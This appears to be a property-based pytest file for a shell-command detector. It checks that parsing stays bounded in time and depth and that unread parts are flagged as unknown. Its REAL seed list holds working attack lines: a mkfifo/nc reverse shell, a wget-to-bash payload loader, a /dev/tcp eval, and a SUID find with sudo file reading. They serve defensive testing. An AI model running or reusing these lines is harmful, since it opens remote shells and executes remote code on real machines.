"""Any text is read, in bounded time, and what was not read is told."""

from __future__ import annotations

import inspect
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from detectors.commands import Command, read
from events import Process

LONG = 1 << 20
COMMANDS = 256
SECONDS = 0.5
"""Of processor time: several times what is needed, for slow machines. Quadratic reading takes minutes."""

PIECES = (
    "( ) $( $(( )) \" ' ` { } {a,b} {1..9} ; ;; & && | || < > >> << <<< <( >( \\ $ ${ ${a:- ${a# ${!a} $a $@ a= a=( [ "
    "[[ ]] if then fi for in do done while case esac function f() echo eval sh -c base64 -d printf xargs -I{} find "
    "-exec sudo env -S id trap export read IFS=, # ! * ~ =a %s $'\\x41' \0 é"
)
TOKENS = (*PIECES.split(), " ", "\n")
shell_like = st.lists(st.sampled_from(TOKENS), max_size=40).flatmap(
    lambda tokens: st.sampled_from(["", " "]).map(lambda joint: joint.join(tokens))
)
REAL = (
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
    'cd /tmp || cd /var/run; for a in mips "arm 7"; do wget http://h/$a -O- | bash -s "${a%% *}"; done &',
    "cat > /tmp/a <<EOF\n$(echo aWQK | base64 -d)\nEOF\nsh /tmp/a; f() { eval \"$1\"; }; f 'exec 5<>/dev/tcp/h/1'",
    "find / -perm -4000 -exec ls -l {} \\; | xargs -I{} sh -c 'sudo -u root cat {}' > >(tee x)",
)


@st.composite
def mutated(draw: st.DrawFn) -> str:
    text = draw(st.sampled_from(REAL))
    start, stop = sorted(draw(st.tuples(*[st.integers(0, len(text))] * 2)))
    return text[:start] + draw(shell_like) + text[stop:]


@given(st.one_of(st.text(), shell_like, mutated()), st.sampled_from(["sh", "sudo", "env", "find", "su", "curl", ""]))
def test_any_text_is_read(text: str, program: str) -> None:
    for process in (
        Process(binary=f"/bin/{program}", argv=(program, "-c", text)),
        Process(binary=f"/bin/{program}", argv=(program, *text.split())),
        Process(binary=program, arguments=text),
        Process(binary="/bin/sh", arguments=f'-c "{text}"'),
    ):
        commands = read(process)
        assert all(
            type(word) is str for command in commands for word in (command.name, command.path, *command.arguments)
        )
        assert all(0 <= index < len(commands) for command in commands for index in feeding(command))
        assert inspect.unwrap(read)(process) == commands


def feeding(command: Command) -> tuple[int, ...]:
    return command.substitutions if command.input is None else (*command.substitutions, command.input)


@pytest.mark.parametrize(
    "piece",
    [
        *TOKENS, "a|", "a;", "a=$a$a;", "((a))", "((a", "a<<A\n", "{a,", "2>&1 ", "a{b,c}{d,e}{f,g} ", "echo a|sh;",
        "f(){ f; f; };f;", "f(){ g;g; }; g(){ h;h; }; h(){ f;f; };f;", "for x in 1 2 3 4 5 6 7 8 9; do ", '"`', '"$(',
        "echo a b c | xargs -I{} xargs -I{} echo {};", 'eval "$(echo ', "a=$(echo b);", "`a`", "if a;then ",
        "case x in a) ", "set -- a b;$@$@;", "sh -c 'sh -c ", "a=(b c);${a[@]} ", "echo id >> x; . x;",
    ],
)  # fmt: skip
def test_a_megabyte_takes_bounded_time(piece: str) -> None:
    text = (piece * (LONG // len(piece) + 1))[:LONG]
    start = time.process_time()
    commands = read(Process(binary="/bin/sh", argv=("sh", "-c", text)))
    split = read(Process(binary="/usr/bin/sudo", arguments=text))
    assert time.process_time() - start < 2 * SECONDS
    assert len(commands) <= COMMANDS
    assert any(command.unknown for command in commands)
    assert any(command.unknown for command in split)


@pytest.mark.parametrize("filler", [" " * LONG, "\n" * LONG, "#" * LONG + "\n", "true;" * 300, "x=1;" * 300, "(" * 99])
def test_what_stands_behind_a_bound_is_unknown(filler: str) -> None:
    commands = read(Process(binary="/bin/sh", argv=("sh", "-c", filler + "nmap")))
    assert commands[-1].unknown


@pytest.mark.parametrize("depth", [3, 30])
def test_nested_texts_are_read_to_a_depth(depth: int) -> None:
    text = "nmap"
    for _ in range(depth):
        text = f"$(echo {text})" if depth > 6 else f"sh -c '{text}'" if "'" not in text else f'eval "{text}"'
    last = read(Process(binary="/bin/sh", argv=("sh", "-c", text)))[-1]
    assert last.unknown == (depth > 6)
    assert (last.name == "nmap") == (depth <= 6)


def test_a_long_plain_command_is_cut_and_unknown() -> None:
    for process in (Process(binary="x", argv=("x", "a " * LONG)), Process(binary="x", arguments="a " * LONG)):
        (command,) = read(process)
        assert (command.name, command.unknown) == ("x", True)
        assert sum(map(len, command.arguments)) < LONG
